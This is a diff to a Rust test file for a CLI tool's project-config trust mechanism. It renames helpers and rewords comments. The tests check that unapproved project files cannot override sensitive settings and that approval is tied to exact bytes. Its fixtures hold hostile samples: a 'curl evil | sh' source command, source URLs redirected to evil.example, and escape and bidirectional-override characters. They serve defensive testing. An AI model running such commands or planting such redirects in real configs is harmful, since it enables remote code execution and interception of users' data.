@@ -1,4 +1,4 @@
-//! What a stranger's project file may say, and what it may say once it is approved.
+//! What an unapproved project file may set, and what an approved one may set.
 
 use serde_json::Value;
 
@@ -23,7 +23,7 @@ off = true
 off = false
 "#;
 
-fn keys(shown: &Value, list: &str) -> Vec<String> {
+fn project_keys(shown: &Value, list: &str) -> Vec<String> {
     let list = shown[list].as_array().unwrap();
     let from_project = list
         .iter()
@@ -33,11 +33,11 @@ fn keys(shown: &Value, list: &str) -> Vec<String> {
         .collect()
 }
 
-fn shown(sandbox: &Sandbox) -> Value {
-    shown_in(sandbox, "project")
+fn show_config(sandbox: &Sandbox) -> Value {
+    show_config_in(sandbox, "project")
 }
 
-fn shown_in(sandbox: &Sandbox, folder: &str) -> Value {
+fn show_config_in(sandbox: &Sandbox, folder: &str) -> Value {
     let mut command = sandbox.command();
     command.current_dir(sandbox.home().join(folder));
     let ran = crate::sandbox::run(command.args(["config", "show", "--json"]));
@@ -48,13 +48,13 @@ fn shown_in(sandbox: &Sandbox, folder: &str) -> Value {
 fn an_unapproved_file_narrows_and_names_and_nothing_more() {
     let sandbox = Sandbox::new();
     sandbox.write("project/rung.toml", PROJECT);
-    let shown = shown(&sandbox);
+    let shown = show_config(&sandbox);
     assert_eq!(
-        keys(&shown, "settings"),
+        project_keys(&shown, "settings"),
         ["reply.max_bytes", "sources.mail.off", "sources.remote.url"]
     );
     assert_eq!(
-        keys(&shown, "withheld"),
+        project_keys(&shown, "withheld"),
         [
             "home",
             "listen",
@@ -66,7 +66,7 @@ fn an_unapproved_file_narrows_and_names_and_nothing_more() {
             "sources.notes.off",
         ]
     );
-    // A command that uses the settings says so and goes on without.
+    // A command that uses the settings prints a warning and continues without them.
     let ran = sandbox.run(&["result", "list"]);
     assert_eq!(ran.status, 0);
     assert!(
@@ -81,15 +81,15 @@ fn a_limit_is_compared_with_what_the_user_allows() {
     let sandbox = Sandbox::new();
     sandbox.write(".config/rung/config.toml", "reply.max_bytes = 10_000\n");
     sandbox.write("project/rung.toml", "reply.max_bytes = 20_000\n");
-    let shown = shown(&sandbox);
-    assert_eq!(keys(&shown, "withheld"), ["reply.max_bytes"]);
+    let shown = show_config(&sandbox);
+    assert_eq!(project_keys(&shown, "withheld"), ["reply.max_bytes"]);
 }
 
 #[test]
 fn approval_holds_for_the_exact_bytes() {
     let sandbox = Sandbox::new();
     let file = sandbox.write("project/rung.toml", PROJECT);
-    // Nobody at the terminal, and no word given: nothing is approved.
+    // Without a terminal and without `--yes` nothing is approved.
     let ran = run_with_input(sandbox.command().args(["config", "trust"]), b"y\n");
     assert_eq!(ran.status, 64);
     assert!(
@@ -97,33 +97,35 @@ fn approval_holds_for_the_exact_bytes() {
         "{}",
         ran.stderr
     );
-    assert_eq!(keys(&shown(&sandbox), "withheld").len(), 8);
+    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);
 
-    let said = sandbox.ok(&["config", "trust", "--yes"]);
+    let said = sandbox.run_ok(&["config", "trust", "--yes"]);
     assert!(
         said.contains(r#"sources.evil.command = ["sh","-c","curl evil | sh"]"#),
         "{said}"
     );
-    assert_eq!(keys(&shown(&sandbox), "withheld"), Vec::<String>::new());
     assert_eq!(
-        keys(&shown(&sandbox), "settings").len(),
+        project_keys(&show_config(&sandbox), "withheld"),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        project_keys(&show_config(&sandbox), "settings").len(),
         10,
         "RUNG_HOME still comes first"
     );
     assert!(
         sandbox
-            .ok(&["config", "trust"])
-            .contains("approved already")
+            .run_ok(&["config", "trust"])
+            .contains("already approved")
     );
 
-    // One byte more, and it is a stranger's file again.
+    // One added byte, and the file is untrusted again.
     std::fs::write(&file, format!("{PROJECT}\n")).unwrap();
-    assert_eq!(keys(&shown(&sandbox), "withheld").len(), 8);
-    // The old bytes are still the approved ones.
+    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);
     std::fs::write(&file, PROJECT).unwrap();
-    assert_eq!(keys(&shown(&sandbox), "withheld").len(), 0);
-    sandbox.ok(&["config", "untrust"]);
-    assert_eq!(keys(&shown(&sandbox), "withheld").len(), 8);
+    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 0);
+    sandbox.run_ok(&["config", "untrust"]);
+    assert_eq!(project_keys(&show_config(&sandbox), "withheld").len(), 8);
 }
 
 #[test]
@@ -138,18 +140,18 @@ fn a_source_of_the_users_cannot_be_led_elsewhere() {
         "[sources.mail]\nurl = \"https://evil.example\"\n[sources.notes]\nurl = \"https://evil.example\"\n\
          [sources.new]\nurl = \"https://new.example\"\n",
     );
-    let shown = shown(&sandbox);
+    let shown = show_config(&sandbox);
     assert_eq!(
-        keys(&shown, "withheld"),
+        project_keys(&shown, "withheld"),
         ["sources.mail.url", "sources.notes.url"]
     );
-    assert_eq!(keys(&shown, "settings"), ["sources.new.url"]);
+    assert_eq!(project_keys(&shown, "settings"), ["sources.new.url"]);
 }
 
 #[test]
 fn what_is_to_be_approved_cannot_hide_itself() {
     let sandbox = Sandbox::new();
-    // In a word, in the folder's name, by moving the cursor and by turning the direction of reading.
+    // Control characters and bidirectional overrides, in a value and in the folder's name.
     let folder = "project/ev\u{1b}[8mil\u{202e}";
     sandbox.write(
         &format!("{folder}/rung.toml"),
@@ -176,20 +178,20 @@ fn a_source_named_by_a_flag_is_the_users_too() {
         "[sources.mail]\nurl = \"https://evil.example\"\n",
     );
     let flag = ["--set", "sources.mail.command=mymail"];
-    let ran = sandbox.ok(&[&flag[..], &["config", "show", "--json"]].concat());
+    let ran = sandbox.run_ok(&[&flag[..], &["config", "show", "--json"]].concat());
     let shown: Value = serde_json::from_str(&ran).unwrap();
-    assert_eq!(keys(&shown, "withheld"), ["sources.mail.url"]);
+    assert_eq!(project_keys(&shown, "withheld"), ["sources.mail.url"]);
 }
 
 #[test]
 fn a_link_to_an_approved_file_is_another_file() {
     let sandbox = Sandbox::new();
     let approved = sandbox.write("project/rung.toml", PROJECT);
-    sandbox.ok(&["config", "trust", "--yes"]);
+    sandbox.run_ok(&["config", "trust", "--yes"]);
     let link = sandbox.home().join("project/sub/rung.toml");
     std::os::unix::fs::symlink(approved, link).unwrap();
     assert_eq!(
-        keys(&shown_in(&sandbox, "project/sub"), "withheld").len(),
+        project_keys(&show_config_in(&sandbox, "project/sub"), "withheld").len(),
         8
     );
 }
@@ -198,10 +200,10 @@ fn a_link_to_an_approved_file_is_another_file() {
 fn a_copy_elsewhere_is_not_approved() {
     let sandbox = Sandbox::new();
     sandbox.write("project/rung.toml", PROJECT);
-    sandbox.ok(&["config", "trust", "--yes"]);
+    sandbox.run_ok(&["config", "trust", "--yes"]);
     sandbox.write("project/sub/rung.toml", PROJECT);
     assert_eq!(
-        keys(&shown_in(&sandbox, "project/sub"), "withheld").len(),
+        project_keys(&show_config_in(&sandbox, "project/sub"), "withheld").len(),
         8
     );
 }
@@ -212,6 +214,6 @@ fn without_a_project_file_there_is_nothing_to_approve() {
     assert_eq!(ran.status, 66);
     assert!(
         ran.stderr
-            .starts_with("error[not_found]: there is no rung.toml here or above")
+            .starts_with("error[not_found]: no rung.toml in the working folder or above")
     );
 }
